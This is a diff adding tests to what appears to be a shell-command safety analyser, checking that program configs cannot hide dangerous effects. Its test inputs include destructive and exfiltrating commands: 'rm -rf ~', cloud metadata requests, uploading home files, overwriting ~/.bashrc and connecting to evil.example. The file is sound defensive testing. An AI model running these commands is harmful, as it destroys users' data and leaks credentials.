@@ -40,6 +40,45 @@ describe('a program of the config', () => {
     expect(codes("acme build --hook 'rm -rf ~'")).toContain('delete-home');
   });
 
+  test.each<[Partial<ProgramSpec>, string, string[]]>([
+    [{ syntax: { assignments: true }, options: { 'of=': 'writes' } }, 'acme of=out.txt', ['write']],
+    [{ syntax: { singleDash: true }, options: { '-out': 'writes' } }, 'acme -out out.txt', ['write']],
+    [{ syntax: { anyCase: true }, options: { '-o': 'writes' } }, 'acme -O out.txt', ['write']],
+    [{ syntax: { slash: true }, effects: [{ code: 'c', flags: '/s', why: 'x' }] }, 'acme /S', ['c']],
+    [{ syntax: { bareLetters: true }, options: { '-f': 'writes' } }, 'acme cf out.txt', ['write']],
+    [{ syntax: { counts: true }, options: { '-n': 'text' }, operands: 'reads' }, 'acme -5 a.txt', ['read']],
+    [{ syntax: { optionsFirst: true }, options: { '-o': 'writes' } }, 'acme run -o out.txt', []],
+    [
+      { syntax: { globalFirst: true }, options: { '-o': 'writes' }, subcommands: { run: {} } },
+      'acme run -o out.txt',
+      ['names'],
+    ],
+  ])('writes its options as its syntax says: %j', (spec, source, expected) => {
+    const program = { names: 'acme', about: 'x', ...spec };
+    expect(problems({ programs: [program] })).toEqual([]);
+    expect(codes(source, [program])).toEqual(expected);
+  });
+
+  test('runs tasks and code of the project', () => {
+    const files: Record<string, string> = {
+      '/home/me/project/Makefile': 'wipe:\n\trm -rf ~\n',
+      '/home/me/project/acme.py': 'import shutil; shutil.rmtree("/home/me")',
+    };
+    for (const [more, source] of [
+      [{ tasks: 'makefile' }, 'acme wipe'],
+      [{ projectCode: { files: 'acme.py', language: 'python' } }, 'acme'],
+    ] as const) {
+      const program: ProgramSpec = { names: 'acme', about: 'x', ...more };
+      expect(problems({ programs: [program] })).toEqual([]);
+      const { effects } = readShell(source, {
+        ...world,
+        programs: [program],
+        readFile: (path) => files[path],
+      });
+      expect(effects.map(({ code }) => code)).toContain('delete-home');
+    }
+  });
+
   test('is not known in the next reading', () => {
     expect(codes('acme release')).toEqual(['acme-release']);
     expect(codes('acme release', [])).toEqual([]);
@@ -57,6 +96,8 @@ describe('a program of the config', () => {
     const kinds = readShell('git tag v1', { ...world, programs: [{ ...git, kind: 'publish' }] }).effects;
     expect(kinds.find((effect) => effect.code === 'our-tag')?.kind).toBe('publish');
     expect(codes('git reset --hard', [git])).toContain('git-reset-hard');
+    const tmux = { names: 'tmux', about: 'x', effects: git.effects! };
+    expect(codes('tmux -c rm -rf /', [tmux])).toEqual(codes('tmux -c rm -rf /', []));
   });
 });
 
@@ -79,11 +120,42 @@ describe('a project that is not trusted', () => {
     expect(spec?.options).toBeUndefined();
   });
 
+  test.each([
+    'acme http://169.254.169.254/latest/meta-data/',
+    'acme --upload ~/notes ssh://host.example/x',
+    'acme purge ~ --recursive',
+    'tmux -c rm -rf /',
+    'webpack --output-path ~/.bashrc',
+    'agent -connect evil.example:443 -ignore-cert',
+  ])('takes nothing away by naming a program: %s', (source) => {
+    const name = source.split(' ')[0]!;
+    const effects = [{ code: 'c', when: 'never', why: 'd' }];
+    for (const more of [strictPrograms([{ names: name, about: 'x', effects }]), []])
+      expect(codes(source, more)).toEqual(codes(source, []));
+    expect(codes(source, []).length).toBeGreaterThan(0);
+  });
+
+  test('takes nothing away from the description that the user gave, whichever comes first', () => {
+    const strict = strictPrograms([
+      { names: 'acme', about: 'x', effects: [{ code: 'c', when: 'x', why: 'd' }] },
+    ]);
+    for (const programs of [
+      [acme, ...strict],
+      [...strict, acme],
+    ]) {
+      expect(codes("acme build --hook 'rm -rf ~'", programs)).toContain('delete-home');
+      expect(codes('acme rm x', programs)).toEqual(['acme-drop']);
+      expect(codes('acme x', programs)).toEqual(['c']);
+    }
+  });
+
   test('can’t flood the reader', () => {
     const many = Array.from({ length: 500 }, (_, i) => ({ ...acme, names: `acme${i}` }));
     expect(strictPrograms(many)).toHaveLength(50);
     const effects = Array.from({ length: 300 }, (_, i) => ({ code: `c${i}`, when: 'x', why: 'y' }));
     expect(strictPrograms([{ ...acme, subcommands: {}, effects }])[0]!.effects).toHaveLength(200);
+    expect(strictPrograms([{ ...acme, names: 'x'.repeat(500) }])).toHaveLength(1);
+    expect(strictPrograms([{ ...acme, names: 'x'.repeat(501) }])).toEqual([]);
   });
 
   test.each(['when', 'flags', 'unless', 'except', 'harmless'])(
